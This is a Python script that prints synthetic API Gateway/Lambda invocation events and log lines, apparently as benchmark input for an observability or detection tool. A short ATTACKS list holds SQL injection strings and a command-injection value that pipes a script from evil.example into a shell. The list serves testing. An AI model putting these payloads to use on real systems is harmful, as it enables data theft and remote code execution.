#!/usr/bin/env python3
"""Prints one NDJSON batch of 500 events for bench/observe.sh: API Gateway v2 invocations of
three functions with realistic inputs (query strings, JSON bodies, headers), 5% of them SQL
injection or command injection attempts, plus a few log lines. Times are a minute old so the
batch stays valid for the whole run; the server gives every event its own id."""
import datetime
import json
import random

random.seed(7)
NOW = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(minutes=1)
ACCOUNT = "123456789012"
FUNCS = ["catalog", "orders", "payments-webhook"]
BENIGN = ["running shoes", "O'Brien", "size 42", "where is my order?", "blue t-shirt",
          "union station", "select a gift", "50% off", "rock & roll", "d'Artagnan"]
ATTACKS = ["1' UNION SELECT username, password FROM users--",
           "report.pdf; curl -s http://evil.example/x | sh",
           "' OR '1'='1"]


def invocation(i):
    fn = FUNCS[i % 3]
    attack = i % 20 == 0
    q = ATTACKS[i % 3] if attack else random.choice(BENIGN)
    body = json.dumps({"items": [{"sku": "SKU-%05d" % random.randrange(99999),
                                  "qty": random.randrange(1, 4),
                                  "note": random.choice(BENIGN)}],
                       "customer": {"name": "Pat O'Brien", "email": "pat@example.com"}})
    return {
        "time": (NOW + datetime.timedelta(milliseconds=i)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3]
        + "Z",
        "type": "invocation",
        "account_id": ACCOUNT,
        "region": "us-east-1",
        "function_arn": "arn:aws:lambda:us-east-1:%s:function:%s" % (ACCOUNT, fn),
        "request_id": "%08x-4697-4b07-a8c5-ac58fc914c95" % i,
        "trace_id": "Root=1-67891233-%024x" % i,
        "source_ip": "198.51.100.%d" % (i % 250 + 1),
        "input": {
            "version": "2.0", "routeKey": "POST /items", "rawPath": "/items",
            "rawQueryString": "q=" + q.replace(" ", "+"),
            "headers": {"content-type": "application/json", "user-agent": "Mozilla/5.0",
                        "accept": "application/json", "x-forwarded-for": "198.51.100.9"},
            "queryStringParameters": {"q": q, "page": str(i % 7)},
            "requestContext": {"http": {"method": "POST", "path": "/items",
                                        "sourceIp": "198.51.100.9"}},
            "body": body, "isBase64Encoded": False,
        },
    }


def log(i):
    return {"time": (NOW + datetime.timedelta(milliseconds=i)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "type": "log", "account_id": ACCOUNT,
            "function_arn": "arn:aws:lambda:us-east-1:%s:function:catalog" % ACCOUNT,
            "message": "REPORT RequestId: %08x-4697-4b07-a8c5-ac58fc914c95\tDuration: 15.74 ms" % i}


for i in range(500):
    print(json.dumps(log(i) if i % 25 == 24 else invocation(i), separators=(",", ":")))
